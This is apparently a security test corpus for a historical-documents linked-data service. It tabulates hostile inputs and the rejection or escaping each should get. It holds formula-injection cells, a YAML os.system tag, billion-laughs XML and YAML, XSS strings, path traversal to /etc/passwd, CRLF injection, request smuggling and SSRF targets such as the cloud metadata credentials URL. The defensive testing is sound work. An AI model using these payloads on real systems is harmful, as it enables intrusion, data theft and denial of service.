"""The hostile-input corpus: tables of input -> expected answer, one table per surface.

Every row is one case. The test modules beside this file run them through the product's public
interfaces (``lod import`` / the importers, record files + ``lod build``, HTTP through Flask's test
client, the live werkzeug server and ``lod serve`` (gunicorn), the SPARQL endpoint, OAI-PMH, the
HTML pages) and compare the answer with the expectation written here. docs/security.md counts them.

Large inputs are generated at test time from a recipe (nothing big is committed).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
PAGES = ROOT / "data" / "sources" / "pages"
SEED_B = PAGES / "diary-soviet-ambassador-pf-yudin-memorandum-conversation-liu-shaoqi-30-october-1956.txt"
SEED_A = PAGES / "journal-ambassador-p-f-yudin-record-conversation-liu-shaoqi-and-zhou-enlai-13-february.txt"


@dataclass(frozen=True)
class Err:
    """Expected: a located RecordError (field, and a fragment of the message; line when given)."""

    field: str
    message: str
    line: int | None = None


@dataclass(frozen=True)
class Ok:
    """Expected: a record; ``checks`` maps a Record attribute (dotted) to its expected value."""

    checks: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    id: str
    input: Any
    expect: Any = None          # None: the expectation is inside ``input`` (Http)
    note: str = ""


def _b() -> str:
    return SEED_B.read_text(encoding="utf-8")


def _a() -> str:
    return SEED_A.read_text(encoding="utf-8")


def _cut_in_citation_b() -> bytes:
    t = _b()
    return t[: t.index("AVPRF f. 0100") + 20].encode()


def _cut_in_citation_a() -> bytes:
    t = _a()
    i = t.index("Document Information")
    j = t.index("f.", i)
    return t[: j + 6].encode()


def _huge_page() -> bytes:
    """A real page with its body repeated to 50 MB (generated at test time, never committed)."""
    seed = _b().encode()
    line = b"Liu Shaoqi said the Soviet advisors were useful and should stay for some years. " * 12 + b"\n"
    reps = (50_000_000 - len(seed)) // len(line) + 1
    return (seed + b"\n" + line * reps)[:50_000_000]


def _billion_laughs_text() -> str:
    ents = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{ents}]><lolz>&j;</lolz>'


BILLION_LAUGHS_XML = _billion_laughs_text()


# ----------------------------------------------------------------------------------- ingest: pages
# input: a callable giving the page's bytes. The real seed page B is imported in the same run:
# it must be created/unchanged whatever the hostile page does (nothing else is lost).
PAGE_CASES: list[Case] = [
    Case("empty", lambda: b"", Err("text", "empty file")),
    Case("whitespace-only", lambda: b"  \n\n\t \r\n", Err("text", "empty file")),
    Case("binary-nul", lambda: bytes(range(256)) * 8, Err("text", "binary data (NUL byte", line=1)),
    Case("binary-png", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), Err("text", "binary data")),
    Case("binary-controls", lambda: bytes(range(1, 9)) * 40 + b"\x0e\x0f" * 40, Err("text", "control characters")),
    Case("utf16-with-bom", lambda: _b().encode("utf-16"), Err("text", "binary data")),
    Case("latin1-mis-encoded", lambda: _b().replace("Liu Shaoqi", "Liú Shàoqí").encode("latin-1", "replace"),
         Err("text", "not UTF-8", line=3)),
    Case("cp1252-smart-quotes", lambda: _b().replace('"', "\u201c").encode("cp1252", "replace"), Err("text", "not UTF-8")),
    Case("surrogate-bytes", lambda: _b().encode()[:200] + b"\xed\xa0\x80" + _b().encode()[200:],
         Err("text", "not UTF-8")),
    Case("overlong-utf8-slash", lambda: _b().encode()[:100] + b"\xc0\xaf" + _b().encode()[100:],
         Err("text", "not UTF-8")),
    Case("truncated-mid-citation-b", _cut_in_citation_b, Err("citation", "truncated")),
    Case("truncated-after-citation-heading", lambda: _b()[: _b().index("Citation:") + 11].encode(),
         Err("citation", "truncated")),
    Case("truncated-mid-citation-a", _cut_in_citation_a, Err("citation", "")),
    Case("date-line-only", lambda: b"November 22, 1956\n", Err("title", "missing title")),
    Case("no-date", lambda: b"Diary of Soviet Ambassador P.F. Yudin\n\nCitation:\n", Err("date", "must start with its date")),
    Case("impossible-date", lambda: _b().replace("November 22, 1956", "February 31, 1956", 1).encode(),
         Err("date", "")),
    Case("huge-50mb", _huge_page, Err("text", "larger than")),
    Case("one-2mb-line", lambda: b"November 22, 1956 " + b"x" * 2_000_000, Err("date", "")),
    Case("bom-and-crlf", lambda: b"\xef\xbb\xbf" + _b().replace("\n", "\r\n").encode(),
         Ok({"key": "116814", "date": "1956-11-22"})),
    Case("doctype-in-body", lambda: _b().replace("Liu Shaoqi discusses", BILLION_LAUGHS_XML + " Liu Shaoqi discusses",
                                                   1).encode(),
         Ok({"key": "116814"}), "XML in a page is text: kept verbatim, never parsed"),
    Case("script-in-title", lambda: _b().replace("Diary of Soviet", "<script>alert(1)</script> Diary of Soviet",
                                                   1).encode(),
         Ok({"key": "116814"}), "HTML in a page is text; escaping is the renderer's job (see HTML cases)"),
]


# ----------------------------------------------------------------------------------- ingest: CSV cells
# input: (column, cell value) replacing one cell of a real row (record 300641); expect as above.
FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1"]
CSV_CASES: list[Case] = [
    Case("formula-hyperlink-title", ("title", FORMULAS[0]), Ok({"title": FORMULAS[0]}),
         "kept verbatim as data; neutralised where we write CSV (see QUERY_CSV_CASES)"),
    Case("formula-plus-summary", ("summary", FORMULAS[1]), Ok({"summary": FORMULAS[1]})),
    Case("formula-minus-summary", ("summary", FORMULAS[2]), Ok({"summary": FORMULAS[2]})),
    Case("formula-at-summary", ("summary", FORMULAS[3]), Ok({"summary": FORMULAS[3]})),
    Case("formula-in-people", ("associated_people_orgs", json.dumps(["=1+1", "Liu, Shaoqi"])),
         Ok({"people": ["=1+1", "Liu, Shaoqi"]})),
    Case("newline-in-title", ("title", "Main Points of\nMeeting Between Sato and Chiang"),
         Ok({"title": "Main Points of Meeting Between Sato and Chiang"}), "a title is one line"),
    Case("newlines-in-summary", ("summary", "First line.\nSecond line.\r\nThird."),
         Ok({"summary": "First line.\nSecond line.\nThird."})),
    Case("newlines-in-body", ("text_body", "Secret\n\n\nCopy 19 of 50\r\nEnd"), Ok({"body": "Secret\n\n\nCopy 19 of 50\nEnd"})),
    Case("ten-thousand-people", ("associated_people_orgs", json.dumps([f"Person Number{i} Testov" for i in range(10_000)])),
         Ok({"len(people)": 10_000, "people[9999]": "Person Number9999 Testov"})),
    Case("people-not-json", ("associated_people_orgs", "Liu, Shaoqi; Mao Zedong"),
         Err("associated_people_orgs", "invalid JSON array")),
    Case("authors-json-object", ("authors", '{"a": 1}'), Err("authors", "expected a JSON array of text")),
    Case("authors-json-numbers", ("authors", "[1, 2, 3]"), Err("authors", "expected a JSON array of text")),
    Case("authors-nested-arrays", ("authors", '[["Liu Shaoqi"]]'), Err("authors", "expected a JSON array of text")),
    Case("authors-deeply-nested", ("authors", "[" * 100_000 + "]" * 100_000), Err("authors", "")),
    Case("places-infinite-number", ("associated_places", "[1e999999]"), Err("associated_places", "")),
    Case("impossible-date", ("original_publication_date", "31 February 1954"),
         Err("original_publication_date", "impossible date")),
    Case("garbage-date", ("original_publication_date", "sometime in the sixties"), Err("original_publication_date", "")),
    Case("record-id-traversal", ("record_id", "../../etc/passwd"), Err("record_id", "not a plain identifier")),
    Case("record-id-newline", ("record_id", "3006\n41"), Err("record_id", "not a plain identifier")),
    Case("record-id-script", ("record_id", "<script>"), Err("record_id", "not a plain identifier")),
    Case("document-url-javascript", ("document_url", "javascript:alert(1)"), Err("document_url", "not an http(s) URL"),
         "with record_id emptied"),
    Case("bidi-override-title", ("title", "\u202egnp.exe Main Points of the Meeting"),
         Ok({"title": "\u202egnp.exe Main Points of the Meeting"})),
    Case("huge-cell-3mb", ("text_body", "Sato said. " * 300_000), Ok({"len(body)": len("Sato said. " * 300_000) - 1})),
]

# ----------------------------------------------------------------------------------- ingest: whole CSV files
CSV_FILE_CASES: list[Case] = [
    Case("nul-in-a-cell", "nul", Err("", "binary data (NUL byte")),
    Case("unterminated-quote", "unterminated", Err("", "")),
    Case("header-only", "header", Ok({"rows": 0})),
    Case("formula-header", "formula-header", Err("title", "missing required column")),
]


# ----------------------------------------------------------------------------------- ingest: record files
# input: the YAML text of data/records/<id>.yaml (a copy of a real record with one thing wrong)
REAL = "key: '300641'\ntitle: Main Points of Meeting Between Prime Minister Sato and Chiang Ching-kuo\ndate: '1967-11-24'\n"
RECORD_FILE_CASES: list[Case] = [
    Case("title-is-a-list", "key: '900001'\ntitle: [a, b]\n", Err("title", "expected text")),
    Case("title-is-a-bool", "key: '900002'\ntitle: true\n", Err("title", "expected text, got bool")),
    Case("title-is-a-float", "key: '900003'\ntitle: 12.5\n", Err("title", "expected text, got float")),
    Case("key-is-a-mapping", "key: {a: 1}\ntitle: T t t\n", Err("key", "missing 'key'")),
    Case("key-missing", "title: Some title here\n", Err("key", "missing 'key'")),
    Case("authors-is-a-string", "key: '900004'\ntitle: Some title here\nauthors: Liu Shaoqi\n",
         Err("authors", "expected a list")),
    Case("authors-null-item", "key: '900005'\ntitle: Some title here\nauthors: [null]\n", Err("authors[0]", "expected text")),
    Case("authors-nested-list", "key: '900006'\ntitle: Some title here\nauthors: [[Liu]]\n", Err("authors[0]", "expected text")),
    Case("withdrawn-is-yes-string", "key: '900007'\ntitle: Some title here\nwithdrawn: 'yes'\n",
         Err("withdrawn", "expected true or false")),
    Case("conversation-is-a-list", "key: '900008'\ntitle: Some title here\nconversation: [x]\n",
         Err("conversation", "expected a mapping")),
    Case("citation-fond-float", "key: '900009'\ntitle: Some title here\ncitation: {fond: 12.5}\n",
         Err("citation.fond", "expected text, got float")),
    Case("participants-is-a-string", "key: '900010'\ntitle: Some title here\nconversation: {participants: Liu}\n",
         Err("conversation.participants", "expected a list")),
    Case("unknown-field", "key: '900011'\ntitle: Some title here\nsecret_admin: true\n", Err("secret_admin", "unknown field")),
    Case("top-level-list", "- key: '900012'\n", Err("", "must be a mapping")),
    Case("top-level-scalar", "just a string\n", Err("", "must be a mapping")),
    Case("python-object-tag", "key: '900013'\ntitle: !!python/object/apply:os.system ['touch /tmp/lod-pwned']\n",
         Err("", "not valid YAML")),
    Case("yaml-billion-laughs", "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
         "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
         "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n"
         "g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\nh: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]\n"
         "key: '900014'\ntitle: Some title here\nauthors: *h\n", Err("", ""), "aliases are references: bounded time"),
    Case("impossible-date", "key: '900015'\ntitle: Some title here\ndate: '1954-02-31'\n", Err("date", "")),
    Case("unquoted-impossible-date", "key: '900016'\ntitle: Some title here\ndate: 1954-02-31\n", Err("date", "")),
    Case("missing-title", "key: '900017'\ntitle: ''\n", Err("title", "missing title")),
    Case("key-traversal", "key: ../../etc/passwd\ntitle: Some title here\n", Err("key", "")),
    Case("key-with-slash", "key: a/b\ntitle: Some title here\n", Err("key", "")),
    Case("key-dot-dot", "key: '..'\ntitle: Some title here\n", Err("key", "")),
    Case("not-utf8", "key: '900018'\ntitle: Liú Shàoqí title\n".encode("latin-1"), Err("", "not UTF-8")),
    Case("tab-indentation", "key: '900019'\ntitle: x\n\tauthors: [a]\n", Err("", "not valid YAML")),
    Case("int-date-is-text", "key: '900020'\ntitle: Some title here\ndate: 1956\n", Ok({"date": "1956"})),
    Case("huge-int-title", f"key: '900021'\ntitle: {10 ** 60}\n", Ok({"title": str(10 ** 60)})),
]


# ----------------------------------------------------------------------------------- lod query --format csv
# A literal in the store -> the cell `lod query --format csv|tsv` writes (spreadsheet formula neutralised).
QUERY_CSV_CASES: list[Case] = [
    Case("equals", "=1+1", "'=1+1"),
    Case("plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    Case("minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    Case("at", "@SUM(1+1)", "'@SUM(1+1)"),
    Case("tab", "\t=1+1", "'\t=1+1"),
    Case("hyperlink", '=HYPERLINK("http://127.0.0.1:9/","x")', '\'=HYPERLINK("http://127.0.0.1:9/","x")'),
    Case("negative-number-kept", "-12.5", "-12.5"),
    Case("plain-text-kept", "Liu Shaoqi", "Liu Shaoqi"),
]


def page_bytes(case: Case) -> bytes:
    make: Callable[[], bytes] = case.input
    return make()


# ----------------------------------------------------------------------------------- HTML (record file -> build -> page)
# input: the fields of one extra record file (key hostile-<id>); expect: the literal that must be shown,
# escaped and intact (None when the value is not a visible literal, e.g. a refused source URL).
def _html(i: str, expect: str | None, **fields: object) -> Case:
    rec = {"key": f"hostile-{i}", "title": f"Hostile case {i} title", "date": "1956-01-01", **fields}
    return Case(i, rec, expect)


HTML_CASES: list[Case] = [
    _html("title-script", "Title <script>alert(1)</script>", title="Title <script>alert(1)</script>"),
    _html("summary-script-breakout", "</script><script>alert(2)</script>",
          summary="</script><script>alert(2)</script>"),
    _html("body-img-onerror", "<img src=x onerror=alert(3)>", body="Liu Shaoqi said <img src=x onerror=alert(3)> then"),
    _html("rights-javascript", "javascript:alert(4)", rights="javascript:alert(4)"),
    _html("source-javascript", None, source_url="javascript:alert(5)"),
    _html("source-mixed-case-javascript", None, source_url="JaVaScRiPt:alert(6)"),
    _html("source-attribute-breakout", None, source_url='http://example.org/"onmouseover="alert(7)'),
    _html("source-data-url", None, source_url="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg=="),
    _html("source-leading-space-javascript", None, source_url=" javascript:alert(9)"),
    _html("person-tag", "<b onmouseover=alert(10)>Bold</b>", people=["<b onmouseover=alert(10)>Bold</b>"]),
    _html("place-svg", '"><svg onload=alert(11)>', places=['"><svg onload=alert(11)>']),
    _html("subject-template", "{{7*7}} ${7*7} {% raw %}", subjects=["{{7*7}} ${7*7} {% raw %}"]),
    _html("title-comment-cdata", "End --> <!-- ]]> <![CDATA[ x", title="End --> <!-- ]]> <![CDATA[ x"),
    _html("citation-iframe", "<iframe src=javascript:alert(12)>",
          citation={"text": "<iframe src=javascript:alert(12)>"}),
    _html("author-javascript-name", "javascript:alert", authors=["javascript:alert(13)"]),  # "(13)": a name variant
    _html("summary-bidi-override", "\u202egnp.exe harmless", summary="\u202egnp.exe harmless"),
    _html("summary-doctype-entities", BILLION_LAUGHS_XML, summary=BILLION_LAUGHS_XML),
    _html("body-style-tag", "<style>body{display:none}</style>", body="Text <style>body{display:none}</style> more"),
]
# Not a vector: a person whose IRI is not ASCII (Hangul), for the unicode-normalisation HTTP cases.
KOREAN = "박헌영"
EXTRA_RECORDS = [{"key": "hostile-unicode-person", "title": "Conversation with a Korean leader", "date": "1956-01-01",
                  "people": [KOREAN]}]


# ----------------------------------------------------------------------------------- HTTP
@dataclass(frozen=True)
class Http:
    """One raw HTTP request and what must come back.

    status: the allowed statuses, for both servers or per server ({"werkzeug": ..., "gunicorn": ...});
    0 means "the server closed the connection without answering" (allowed only where listed);
    ctype: the expected media type prefix (when the status is 200/303/406...); location: the Location
    must start with the public base; every answer: no injected header, no file content, no 5xx.
    """

    target: str
    status: Any
    headers: tuple[str, ...] = ()
    method: str = "GET"
    body: bytes = b""
    ctype: str | None = None
    location: bool = False
    raw: bytes | None = None           # the whole request as bytes (for what no client would send)


DOC = "/data/document/116814"
THING = "/id/person/liu-shaoqi"
BIG_ACCEPT = "text/plain;q=0.1, " * 6000
BOGUS_RANGES = ",".join(f"x{i}/y" for i in range(1000))
GUN_ONLY_400 = {"werkzeug": {200, 303, 400, 404, 406}, "gunicorn": {400}}


def _nfd_korean() -> str:
    import unicodedata
    from urllib.parse import quote
    return "/id/person/" + quote(unicodedata.normalize("NFD", KOREAN))


def _nfc_korean() -> str:
    from urllib.parse import quote
    return "/id/person/" + quote(KOREAN)


HTTP_CASES: list[Case] = [
    # --- Accept: malformed, huge, odd -> a served type or 406, never an error
    Case("accept-empty", Http(DOC, {200}, ("Accept: ",), ctype="text/turtle")),
    Case("accept-q-zero-everything", Http(DOC, {406}, ("Accept: */*;q=0",), ctype="text/plain")),
    Case("accept-bad-q", Http(DOC, {406}, ("Accept: text/turtle;q=abc",))),
    Case("accept-q-over-one", Http(DOC, {406}, ("Accept: text/turtle;q=1.0001",))),
    Case("accept-punctuation", Http(DOC, {406}, ("Accept: ;;;,,,/,*/,/*",))),
    Case("accept-html-star", Http(DOC, {200}, ("Accept: text/html, */*;q=0.8",), ctype="text/html")),
    Case("accept-type-wildcard", Http(DOC, {200}, ("Accept: text/*;q=0.5, text/turtle;q=0",), ctype="text/html")),
    Case("accept-unsupported", Http(DOC, {406}, ("Accept: image/png",), ctype="text/plain")),
    Case("accept-two-header-lines", Http(DOC, {200}, ("Accept: image/png", "Accept: text/turtle"), ctype="text/turtle")),
    Case("accept-huge-100kb", Http(DOC, {431, 400}, (f"Accept: {BIG_ACCEPT}",))),
    Case("accept-1000-bogus-ranges", Http(DOC, {406}, (f"Accept: {BOGUS_RANGES}",))),
    Case("accept-good-range-beyond-64", Http(DOC, {406}, ("Accept: " + "x/y," * 70 + "text/turtle",))),
    Case("accept-latin1-bytes", Http(DOC, {200, 406}, raw=b"GET " + DOC.encode() + b" HTTP/1.1\r\nHost: x\r\n"
                                     b"Accept: text/turtle;x=\xe9\xff, text/html\r\nConnection: close\r\n\r\n")),
    Case("accept-nul-byte", Http(DOC, {"werkzeug": {200, 400, 406}, "gunicorn": {400}},
                                 raw=b"GET " + DOC.encode() + b" HTTP/1.1\r\nHost: x\r\nAccept: text/\x00turtle\r\n"
                                 b"Connection: close\r\n\r\n")),
    Case("accept-profile-param", Http(DOC, {406}, ('Accept: application/ld+json;profile="http://www.w3.org/ns/json-ld#compacted"',))),
    Case("accept-thing-303", Http(THING, {303}, ("Accept: application/n-triples;q=0.9, text/turtle;q=0.1",),
                                  location=True)),
    Case("accept-thing-406", Http(THING, {406}, ("Accept: image/*",))),
    # --- path traversal: 404 (or 400), never a file
    Case("traversal-dotdot", Http("/data/../../etc/passwd", {404, 400})),
    Case("traversal-encoded-dots", Http("/data/%2e%2e/%2e%2e/etc/passwd", {404, 400})),
    Case("traversal-encoded-slash", Http("/id/person/..%2f..%2fcatalog.sqlite", {404, 400})),
    Case("traversal-static", Http("/static/../../../../etc/passwd", {404, 400})),
    Case("traversal-static-encoded", Http("/static/%2e%2e/%2e%2e/etc/passwd", {404, 400})),
    Case("traversal-static-encoded-slash", Http("/static/..%2f..%2fapp.py", {404, 400})),
    Case("traversal-dumps-catalog", Http("/dumps/..%2fcatalog.sqlite", {404, 400})),
    Case("traversal-dumps-current", Http("/dumps/../CURRENT", {404, 400})),
    Case("traversal-dumps-double-encoded", Http("/dumps/%252e%252e%252fcatalog.sqlite", {404, 400})),
    Case("traversal-root-encoded", Http("/%2e%2e/%2e%2e/etc/passwd", {404, 400})),
    Case("traversal-double-slash", Http("//etc/passwd", {404, 400})),
    Case("traversal-after-thing", Http("/id/person/liu-shaoqi/../../../etc/passwd", {404, 400})),
    Case("traversal-nul-extension", Http("/data/person/liu-shaoqi.ttl%00.html", {404, 400})),
    Case("traversal-overlong-dot", Http("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", {404, 400})),
    Case("traversal-backslash", Http("/static/..\\..\\..\\etc\\passwd", {404, 400})),
    Case("traversal-encoded-backslash", Http("/static/%5c..%5c..%5cetc%5cpasswd", {404, 400})),
    Case("traversal-through-dump", Http("/dumps/dataset.nt.gz/../../catalog.sqlite", {404, 400})),
    # --- very long URLs
    Case("long-path-9kb", Http("/id/" + "a" * 9000, {"werkzeug": {404}, "gunicorn": {414}})),
    Case("long-query-40kb", Http(DOC + ".ttl?" + "x=1&" * 10000, {"werkzeug": {200}, "gunicorn": {414}})),
    Case("long-path-under-limit", Http("/id/person/" + "b" * 3500, {404})),
    Case("many-headers", Http(DOC + ".ttl", {431, 400},
                              tuple(f"X-H{i}: {i}" for i in range(150)))),
    # --- unicode normalisation: an IRI is one string; look-alikes are other (unknown) IRIs
    Case("unicode-nfc-hangul", Http(_nfc_korean(), {303}, location=True)),
    Case("unicode-nfd-hangul", Http(_nfd_korean(), {404})),
    Case("unicode-fullwidth-dots", Http("/id/person/%EF%BC%8E%EF%BC%8E%EF%BC%8Fcatalog", {404})),
    Case("unicode-fullwidth-letters", Http("/id/person/%EF%BD%8C%EF%BD%89%EF%BD%95-shaoqi", {404})),
    Case("unicode-cyrillic-homoglyph", Http("/id/person/liu-sh%D0%B0oqi", {404})),
    Case("unicode-hyphen-u2010", Http("/id/person/liu%E2%80%90shaoqi", {404})),
    Case("unicode-zero-width-joiner", Http("/id/person/liu%E2%80%8D-shaoqi", {404})),
    Case("unicode-uppercase", Http("/id/person/LIU-SHAOQI", {404})),
    Case("unicode-invalid-utf8", Http("/id/person/%FF%FE", {404, 400})),
    Case("unicode-lone-surrogate", Http("/id/person/%ED%A0%80", {404, 400})),
    Case("unicode-percent-encoded-ascii", Http("/id/person/%6C%69%75-shaoqi", {303}, location=True),
         note="RFC 3986 6.2.2.2: escaped unreserved characters are the same IRI"),
    # --- CRLF in parameters and paths: never a header
    Case("crlf-page-param-thing", Http(THING + "?page=1%0d%0aX-Injected:%201", {400}, ctype="text/plain")),
    Case("crlf-page-param-doc", Http("/data/person/liu-shaoqi.ttl?page=1%0d%0aX-Injected:%201", {400})),
    Case("crlf-oai-verb", Http("/oai?verb=Identify%0d%0aX-Injected:%201", {200}, ctype="text/xml")),
    Case("crlf-oai-identifier", Http("/oai?verb=GetRecord&metadataPrefix=oai_dc&identifier=%0d%0aX-Injected:%201",
                                     {200}, ctype="text/xml")),
    Case("crlf-sparql-format", Http("/sparql?query=ASK%7B%7D&format=json%0d%0aX-Injected:%201", {400})),
    Case("crlf-path", Http("/id/person/liu-shaoqi%0d%0aSet-Cookie:%20x=1", {404, 400})),
    Case("crlf-search", Http("/search?title=%0d%0aX-Injected:%201", {200}, ctype="text/html")),
    Case("crlf-raw-in-request-line", Http("", {"werkzeug": {0, 400}, "gunicorn": {400}}, raw=b"GET /id/person/liu-shaoqi\r\nX-Injected: 1 HTTP/1.1\r\n"
                                                     b"Host: x\r\nConnection: close\r\n\r\n")),
    Case("crlf-obs-fold-header", Http("", {"werkzeug": {200, 400}, "gunicorn": {400}},
                                      raw=b"GET " + DOC.encode() + b".ttl HTTP/1.1\r\nHost: x\r\nAccept: text/turtle\r\n"
                                      b" X-Injected: 1\r\nConnection: close\r\n\r\n")),
    # --- hosts and forwarding: Location is always the public base
    Case("host-evil", Http(THING, {303}, ("Host: evil.example",), location=True)),
    Case("forwarded-host-evil", Http(THING, {303}, ("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: https"),
                                     location=True)),
    Case("absolute-form-target", Http("http://evil.example" + THING, {303, 400, 404}, location=True)),
    # --- methods and bodies
    Case("method-trace", Http("/", {405, 400}, method="TRACE")),
    Case("method-put-document", Http(DOC + ".ttl", {405}, method="PUT", body=b"<a> <b> <c> .")),
    Case("method-delete-sparql", Http("/sparql", {405}, method="DELETE")),
    Case("content-length-lie", Http("/sparql", {413}, ("Content-Type: application/sparql-query",
                                                             "Content-Length: 99999999999"), method="POST",
                                    body=b"ASK {}")),
    Case("oai-post-2mb", Http("/oai", {413}, ("Content-Type: application/x-www-form-urlencoded",),
                              method="POST", body=b"verb=Identify&x=" + b"a" * 2_000_000)),
    Case("smuggling-te-and-cl", Http("", {"werkzeug": {200, 400, 405, 411, 501}, "gunicorn": {400}},
                                     raw=b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
                                     b"Transfer-Encoding: chunked\r\nContent-Type: application/sparql-query\r\n"
                                     b"Connection: close\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n")),
]


# ----------------------------------------------------------------------------------- SPARQL: SSRF
# Each target (a URL a request could ask us to fetch) x each vector (a way of asking) -> the refusal.
# "{canary}", "{redirector}", "{cport}" are filled in with the package's loopback servers.
SSRF_TARGETS: list[Case] = [
    Case("file", "file:///etc/passwd"),
    Case("file-host", "file://localhost/etc/passwd"),
    Case("loopback-canary", "{canary}"),
    Case("loopback-redirect-to-canary", "{redirector}"),
    Case("localhost-name", "http://localhost:{cport}/"),
    Case("loopback-short-form", "http://127.1:{cport}/"),
    Case("loopback-decimal", "http://2130706433:{cport}/"),
    Case("unspecified-0000", "http://0.0.0.0:{cport}/"),
    Case("ipv6-loopback", "http://[::1]:{cport}/sparql"),
    Case("ipv6-mapped-v4", "http://[::ffff:127.0.0.1]:{cport}/"),
    Case("private-10", "http://10.0.0.1/sparql"),
    Case("private-192-168", "http://192.168.1.1/"),
    Case("private-172-16", "http://172.16.0.1/"),
    Case("link-local-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    Case("ipv6-unique-local", "http://[fd00::1]/"),
    Case("gopher", "gopher://127.0.0.1:25/_HELO"),
    Case("ftp", "ftp://127.0.0.1/x"),
    Case("allowlist-suffix-trick", "https://query.wikidata.org.127.0.0.1.nip.io/sparql"),
    Case("allowlist-userinfo-trick", "https://query.wikidata.org@127.0.0.1:{cport}/sparql"),
    Case("allowlist-dotdot-trick", "https://query.wikidata.org/sparql/../../admin"),
    Case("allowlist-query-trick", "https://query.wikidata.org/sparql?redirect=http://127.0.0.1:{cport}/"),
]
# vector -> (how to send it, expected status)
SSRF_VECTORS: list[Case] = [
    Case("SERVICE", "SELECT * WHERE {{ SERVICE <{t}> {{ ?s ?p ?o }} }}", 403),
    Case("SERVICE-SILENT", "SELECT * WHERE {{ SERVICE SILENT <{t}> {{ ?s ?p ?o }} }}", 403),
    Case("SERVICE-nested", "SELECT * WHERE {{ ?s ?p ?o OPTIONAL {{ {{ SELECT * WHERE {{ SERVICE <{t}> {{ ?a ?b ?c }} }} }} }} }}",
         403),
    Case("SERVICE-prefixed", "PREFIX e: <{t}> SELECT * WHERE {{ SERVICE e: {{ ?s ?p ?o }} }}", 403),
    Case("FROM", "SELECT * FROM <{t}> WHERE {{ ?s ?p ?o }}", 400),
    Case("FROM-NAMED", "SELECT * FROM NAMED <{t}> WHERE {{ GRAPH ?g {{ ?s ?p ?o }} }}", 400),
    Case("LOAD", "LOAD <{t}>", 403),
    Case("LOAD-INTO", "LOAD SILENT <{t}> INTO GRAPH <urn:x>", 403),
    Case("update-param-LOAD", {"update": "LOAD <{t}>"}, 403),
    Case("default-graph-uri", {"query": "ASK {{ ?s ?p ?o }}", "default-graph-uri": "{t}"}, 400),
    Case("named-graph-uri", {"query": "ASK {{ GRAPH ?g {{ ?s ?p ?o }} }}", "named-graph-uri": "{t}"}, 400),
]


# ----------------------------------------------------------------------------------- SPARQL: cost
# (query, allowed statuses, extra check). The app under test: 2 s timeout, 1 worker, 100 rows cap.
def _nest(n: int) -> str:
    return "SELECT * WHERE " + "{" * n + " ?s ?p ?o " + "}" * n


COST_CASES: list[Case] = [
    Case("cross-join", "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?a ?d ?g", {503}),
    Case("cross-join-count", "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }", {503}),
    Case("catastrophic-regex", 'SELECT * WHERE { ?s ?p ?o . ?x ?y ?z FILTER(REGEX(CONCAT(STR(?o), STR(?z), '
                               '"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"), "^(a+)+$")) }', {200, 503}),
    Case("regex-huge-pattern", 'ASK { FILTER(REGEX("a", "' + "(a|b)" * 3000 + '")) }', {200, 400, 503}),
    Case("property-path-star", "SELECT (COUNT(*) AS ?n) WHERE { ?s (<urn:a>|!<urn:b>)* ?o }", {200, 503}),
    Case("deep-braces-1000", _nest(1000), {400}),
    Case("deep-braces-100000", _nest(100_000), {400}),
    Case("deep-optional-3000", "SELECT * WHERE { ?s ?p ?o " + "OPTIONAL { ?s ?p ?o " * 3000 + "}" * 3000 + " }",
         {400}),
    Case("deep-parens-20000", "ASK { FILTER(" + "(" * 20_000 + "1" + ")" * 20_000 + ") }", {400}),
    Case("deep-subselect-300", "SELECT * WHERE { " + "{ SELECT * WHERE " * 300 + "{ ?s ?p ?o }" + " }" * 300 + " }",
         {400}),
    Case("unary-not-chain-20000", "ASK { FILTER(" + "!" * 20_000 + "true) }", {400}),
    Case("deep-but-fine-50", _nest(50), {200}),
    Case("limit-overflow", "SELECT * WHERE { ?s ?p ?o } LIMIT 99999999999999999999999", {400}),
    Case("limit-int64-max", "SELECT * WHERE { ?s ?p ?o } LIMIT 9223372036854775807", {200}),
    Case("offset-int64-max", "SELECT * WHERE { ?s ?p ?o } OFFSET 9223372036854775807 LIMIT 10", {200}),
    Case("offset-overflow", "SELECT * WHERE { ?s ?p ?o } OFFSET 99999999999999999999999", {400}),
    Case("negative-limit", "SELECT * WHERE { ?s ?p ?o } LIMIT -1", {400}),
    Case("ten-thousand-variables", "SELECT " + " ".join(f"?v{i}" for i in range(10_000)) + " WHERE { ?s ?p ?o } LIMIT 1",
         {200}),
    Case("thousand-from-our-graph", "SELECT * " + "FROM <http://localhost:8080/graph/authority> " * 1000
         + "WHERE { ?s ?p ?o } LIMIT 1", {200}),
    Case("query-2mb", "SELECT * WHERE { ?s ?p ?o } #" + "x" * 2_000_000, {413}),
